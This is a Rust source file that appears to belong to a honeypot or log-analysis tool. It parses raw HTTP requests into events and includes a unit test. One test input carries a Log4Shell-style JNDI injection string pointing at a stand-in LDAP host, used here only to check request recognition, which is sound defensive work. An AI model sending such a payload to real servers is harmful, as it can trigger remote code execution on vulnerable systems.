//! Raw HTTP requests, one or several in a file, as they came over the wire → one event each.
//!
//! Deliberately absent: time and addresses, which raw requests do not have; responses.

use ringleader_model::{Activity, Event, EventClass, Malformed, SensorRole};

use super::wire::{HttpRequest, request_line};
use super::{Format, Framing, Reader, Record, Sink, SourceContext};

/// The most requests that are read of one input.
const MAX_REQUESTS: usize = 1_000_000;

/// What an HTTP honeypot wrote down, or an analyst saved.
pub struct HttpRequests;

impl Format for HttpRequests {
    fn name(&self) -> &'static str {
        "http_request"
    }
    fn summary(&self) -> &'static str {
        "Raw HTTP requests, one after the other"
    }
    fn framing(&self) -> Framing {
        Framing::Whole
    }
    fn recognizes(&self, head: &[u8]) -> bool {
        let head = start(head);
        request_line(head.split(|it| *it == b'\n').next().unwrap_or_default()).is_some()
    }
    fn reader(&self, _context: &SourceContext, _head: &[u8]) -> Box<dyn Reader> {
        Box::new(Requests)
    }
}

fn start(bytes: &[u8]) -> &[u8] {
    bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes).trim_ascii_start()
}

struct Requests;

impl Reader for Requests {
    fn read(&mut self, record: &Record<'_>, sink: &mut dyn Sink) -> Result<(), Malformed> {
        let place = |rest: &[u8]| record.offset + (record.bytes.len() - rest.len()) as u64;
        let mut rest = start(record.bytes);
        for _ in 0..MAX_REQUESTS {
            if rest.is_empty() {
                return Ok(());
            }
            let Some(request) = HttpRequest::parse(rest) else {
                sink.reject_at(place(rest), &rest[..rest.len().min(1024)], Malformed::new("no request line"));
                return Ok(());
            };
            let mut event = Event::new(EventClass::Http, Activity::Request);
            event.sensor_role = SensorRole::Honeypot;
            request.fill(&mut event);
            let content = rest[..request.length].trim_ascii_end();
            sink.emit_at(&event, place(rest), u32::try_from(content.len()).unwrap_or(u32::MAX), content);
            rest = rest[request.length..].trim_ascii_start();
        }
        sink.reject_at(
            place(rest),
            &rest[..rest.len().min(1024)],
            Malformed::new("more than 1,000,000 requests in one file"),
        );
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::read_all;
    use super::*;

    #[test]
    fn what_is_no_request_is_rejected_with_its_place() {
        assert_eq!(read_all(&HttpRequests, b"\n\nhello")[0], "REJECTED at 2: no request line");
        assert!(!HttpRequests.recognizes(b"HTTP/1.1 200 OK\r\n\r\n"));
        assert!(!HttpRequests.recognizes(b""));
        assert!(HttpRequests.recognizes(b"GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\n"));
    }
}
